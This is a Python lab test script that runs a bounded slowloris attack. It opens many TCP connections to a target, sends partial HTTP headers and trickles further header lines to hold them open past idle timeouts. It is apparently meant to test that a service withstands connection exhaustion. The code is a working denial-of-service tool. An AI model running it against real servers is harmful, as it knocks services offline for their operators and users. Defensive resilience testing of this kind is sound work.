#!/usr/bin/python3
"""A bounded slowloris for the lab: many connections that never finish a request.

    ip netns exec NS /usr/bin/python3 tests/lab/slowloris.py HOST PORT SOURCE COUNT HOLD READY

Opens COUNT TCP connections from SOURCE to HOST:PORT, sends half a request header on
each, then one more header line every 2 s (so an idle timeout alone never frees them),
holds them HOLD seconds and closes them all. Writes `connected N` to READY once the
connections are open, and prints one summary line at the end:
`connected N closed-by-server M held K`. It stops by itself: at most HOLD + 15 s.
"""
import errno
import resource
import selectors
import socket
import sys
import time

HALF_HEADER = b"GET /metrics HTTP/1.1\r\nHost: vipcheckd\r\nUser-Agent: slowloris\r\n"
TRICKLE = b"X-Slow: 1\r\n"
TRICKLE_EVERY = 2.0
CONNECT_WAIT = 10.0


def open_all(host: str, port: int, source: str, count: int) -> list:
    """Non-blocking connects, all at once; the ones the handshake completed."""
    family = socket.AF_INET6 if ":" in host else socket.AF_INET
    pending = selectors.DefaultSelector()
    for _ in range(count):
        s = socket.socket(family, socket.SOCK_STREAM)
        s.setblocking(False)
        s.bind((source, 0))
        err = s.connect_ex((host, port))
        if err not in (0, errno.EINPROGRESS):
            s.close()
            continue
        pending.register(s, selectors.EVENT_WRITE)
    connected = []
    deadline = time.monotonic() + CONNECT_WAIT
    while pending.get_map() and time.monotonic() < deadline:
        for key, _ in pending.select(timeout=max(0.0, deadline - time.monotonic())):
            s = key.fileobj
            pending.unregister(s)
            if s.getsockopt(socket.SOL_SOCKET, socket.SO_ERROR) == 0:
                connected.append(s)
            else:
                s.close()
    for key in list(pending.get_map().values()):
        key.fileobj.close()
    pending.close()
    return connected


def send_all(sockets: list, data: bytes) -> list:
    """Sends data on each socket; returns the ones the server has not closed."""
    alive = []
    for s in sockets:
        try:
            # A closed connection reads as end of file (or a reset) before a send fails.
            if s.recv(1, socket.MSG_PEEK | socket.MSG_DONTWAIT) == b"":
                s.close()
                continue
        except BlockingIOError:
            pass
        except OSError:
            s.close()
            continue
        try:
            s.send(data)
            alive.append(s)
        except OSError:
            s.close()
    return alive


def main() -> int:
    if len(sys.argv) != 7:
        print(__doc__.strip().splitlines()[2].strip(), file=sys.stderr)
        return 1
    host, port, source = sys.argv[1], int(sys.argv[2]), sys.argv[3]
    count, hold, ready = int(sys.argv[4]), float(sys.argv[5]), sys.argv[6]
    soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    want = count + 64
    if soft < want:
        resource.setrlimit(resource.RLIMIT_NOFILE, (min(want, hard), hard))
    sockets = open_all(host, port, source, count)
    connected = len(sockets)
    sockets = send_all(sockets, HALF_HEADER)
    with open(ready, "w", encoding="ascii") as out:
        out.write(f"connected {connected}\n")
    end = time.monotonic() + hold
    while time.monotonic() < end:
        time.sleep(min(TRICKLE_EVERY, max(0.0, end - time.monotonic())))
        sockets = send_all(sockets, TRICKLE)
    print(f"connected {connected} closed-by-server {connected - len(sockets)} held {len(sockets)}")
    for s in sockets:
        s.close()
    return 0


if __name__ == "__main__":
    sys.exit(main())
